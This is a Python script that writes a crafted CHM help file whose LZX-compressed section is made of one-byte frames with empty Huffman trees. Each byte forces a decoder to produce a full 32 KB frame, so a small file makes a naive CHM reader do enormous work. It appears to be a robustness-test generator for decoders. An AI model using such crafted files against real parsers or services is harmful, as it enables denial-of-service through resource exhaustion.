#!/usr/bin/python3
"""Writes a crafted CHM of about the given size whose compressed section is all
frames of one byte each: LZX blocks whose Huffman trees are empty, so that a
decoder takes the first symbol for every position without reading a bit. A
frame costs the file 9 bytes (its byte and its reset table entry) and a naive
follower or decoder a whole frame's work. One page spans every frame; the
title lies in #SYSTEM, uncompressed.
   make_crafted.py <out.chm> <megabytes>"""
import struct
import sys

FRAME = 0x8000
WINDOW_FRAMES = 2          # a 64 KB window, counted in frames (control data version 2)
RESET_FRAMES = 0x10000     # frames between resets
BLOCK = 0xFFFFFF           # the longest LZX block, in bytes


class Bits:
    """LZX's bit order: 16-bit little-endian words, most significant bit first."""

    def __init__(self):
        self.words = []
        self.acc = 0
        self.used = 0

    def put(self, value, count):
        for i in range(count - 1, -1, -1):
            self.acc = self.acc << 1 | (value >> i & 1)
            self.used += 1
            if self.used == 16:
                self.words.append(self.acc)
                self.acc, self.used = 0, 0

    def done(self):
        if self.used:
            self.acc <<= 16 - self.used
            self.words.append(self.acc)
            self.acc, self.used = 0, 0
        return b"".join(struct.pack("<H", w) for w in self.words)


def block_header(bits):
    # A verbatim block of the longest length, every tree empty: three pretrees
    # of twenty zero lengths, each followed by no bits for its lengths.
    bits.put(1, 3)
    bits.put(BLOCK >> 8, 16)
    bits.put(BLOCK & 0xFF, 8)
    for _ in range(3):
        bits.put(0, 4 * 20)


def frames(count):
    """The compressed frames: one byte each (a frame takes at least one byte
    of the reset table), with the bits of a header wherever a reset or a block
    begins inside it. Literals from empty trees take no bits, so a header that
    a block needs half-way through a frame sits at the frame's start."""
    out = []
    left_in_block = 0
    for n in range(count):
        bits = Bits()
        if n % RESET_FRAMES == 0:
            bits.put(0, 1)  # no translation, once after each reset
            left_in_block = 0
        need = FRAME
        while need:
            if left_in_block == 0:
                block_header(bits)
                left_in_block = BLOCK
            take = min(need, left_in_block)
            need -= take
            left_in_block -= take
        out.append(bits.done() or b"\0")
    return out


def encint(value):
    parts = [value & 0x7F]
    value >>= 7
    while value:
        parts.insert(0, 0x80 | (value & 0x7F))
        value >>= 7
    return bytes(parts)


def main():
    path, megabytes = sys.argv[1], float(sys.argv[2])
    count = int(megabytes * 1024 * 1024 / 9)
    compressed = frames(count)
    starts, offset = [], 0
    for data in compressed:
        starts.append(offset)
        offset += len(data)
    content = b"".join(compressed)
    uncompressed = count * FRAME

    system = struct.pack("<I", 3)
    title = b"Crafted frames\0"
    system += struct.pack("<HH", 3, len(title)) + title
    system += struct.pack("<HH", 4, 4) + struct.pack("<I", 0x409)
    names = ["Uncompressed", "MSCompressed"]
    namelist = struct.pack("<HH", 0, len(names))
    for name in names:
        namelist += struct.pack("<H", len(name)) + name.encode("utf-16-le") + b"\0\0"
    namelist = struct.pack("<H", len(namelist) // 2) + namelist[2:]
    # Version 2 counts in frames; the frames between resets come to
    # 2 * interval / window.
    control = struct.pack("<I", 6) + b"LZXC" + struct.pack("<IIIII", 2, RESET_FRAMES * WINDOW_FRAMES // 2,
                                                           WINDOW_FRAMES, 1, 0)
    table = struct.pack("<IIIIQQQ", 2, count + 1, 8, 0x28, uncompressed, len(content), FRAME)
    table += b"".join(struct.pack("<Q", s) for s in starts) + struct.pack("<Q", len(content))

    # Section 0: the streams in this order; their offsets follow.
    section0 = []
    offset = 0
    for name, data in [("/#SYSTEM", system), ("::DataSpace/NameList", namelist),
                       ("::DataSpace/Storage/MSCompressed/ControlData", control),
                       ("::DataSpace/Storage/MSCompressed/Transform/{7FC28940-9D31-11D0-9B27-00A0C91E9C7C}/"
                        "InstanceData/ResetTable", table),
                       ("::DataSpace/Storage/MSCompressed/Content", content)]:
        section0.append((name, offset, len(data), data))
        offset += len(data)
    listing = [("/", 0, 0, 0), ("/#SYSTEM", 0, section0[0][1], section0[0][2]), ("/index.htm", 1, 0, uncompressed)]
    listing += [(name, 0, off, length) for name, off, length, _ in section0[1:]]
    body = b""
    for name, section, off, length in listing:
        raw = name.encode()
        body += encint(len(raw)) + raw + encint(section) + encint(off) + encint(length)
    chunk_size = 0x1000
    chunk = b"PMGL" + struct.pack("<IIii", chunk_size - 0x14 - len(body), 0, -1, -1) + body
    chunk += b"\0" * (chunk_size - len(chunk) - 2) + struct.pack("<H", len(listing))

    directory_offset = 0x60 + 0x18
    itsp = b"ITSP" + struct.pack("<IIIIIIiiiiI", 1, 0x54, 10, chunk_size, 2, 1, -1, 0, 0, -1, 1)
    itsp += struct.pack("<I", 0x409) + b"\0" * 16 + struct.pack("<IIII", 0x54, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    directory = itsp + chunk
    content_offset = directory_offset + len(directory)
    itsf = b"ITSF" + struct.pack("<IIIII", 3, 0x60, 1, 0, 0x409) + b"\0" * 32
    itsf += struct.pack("<QQQQQ", 0x60, 0x18, directory_offset, len(directory), content_offset)
    with open(path, "wb") as out:
        out.write(itsf + b"\0" * 0x18 + directory + b"".join(s[3] for s in section0))


if __name__ == "__main__":
    main()
